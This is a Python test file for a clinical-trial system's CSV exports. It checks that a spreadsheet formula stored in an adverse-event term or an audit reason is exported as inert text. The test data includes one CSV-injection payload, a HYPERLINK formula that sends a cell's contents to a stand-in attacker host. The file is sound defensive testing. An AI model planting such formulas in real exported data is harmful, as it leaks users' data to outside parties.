"""Every CSV the system writes keeps a formula typed as text from running in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
from typer.testing import CliRunner

from analysis_world import build_analysis_world
from db_fixtures import SettableClock
from trialdesk.bootstrap import Store
from trialdesk.entrypoints.cli.app import app
from trialdesk.services.accounts import accounts
from trialdesk.services.subjects import subjects
from web_world import WebWorld

runner = CliRunner()
_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_an_adverse_event_term_written_as_a_formula_is_inert_in_the_exports(
    store: Store, clock: SettableClock, tmp_path: Path
) -> None:
    build_analysis_world(store, clock, n_subjects=6)
    with store.new_uow() as uow:
        event = uow.records.find("adverse_events")[0]
        uow.records.update("adverse_events", event["id"], {"term": _FORMULA})
        uow.commit()
    exported = runner.invoke(
        app, ["export", "datasets", "--db", store.url, "--out", str(tmp_path), "--json"]
    )
    assert exported.exit_code == 0, exported.output
    adae = _rows((tmp_path / "adae.csv").read_text())
    terms = {value for row in adae for value in row.values() if "HYPERLINK" in value}
    assert "'" + _FORMULA in terms
    assert _FORMULA not in terms
    every_cell = [v for name in json.loads(exported.stdout)["files"] for row in
                  _rows(Path(name).read_text()) for v in row.values()]  # fmt: skip
    assert not [cell for cell in every_cell if cell[:1] in {"=", "+", "@"}]
    # Numeric columns are still numbers, negative ones included.
    for name in ("adsl", "adtte", "adae"):
        frame = pd.read_csv(tmp_path / f"{name}.csv")
        assert any(pd.api.types.is_numeric_dtype(t) for t in frame.dtypes), name


def test_the_audit_export_keeps_a_reason_typed_as_a_formula_inert(web: WebWorld) -> None:
    coordinator = accounts.list_users(web.store.new_uow())[1].id
    subjects.change_state(
        web.store.new_uow(), as_user=coordinator, subject_id=web.subject_id,
        target="withdrawn", reason=_FORMULA,
    )  # fmt: skip
    result = runner.invoke(app, ["audit", "export", "--db", web.store.url])
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    assert "'" + _FORMULA in [row["reason"] for row in rows]
    assert not [v for row in rows for v in row.values() if v[:1] in {"=", "+", "@"}]
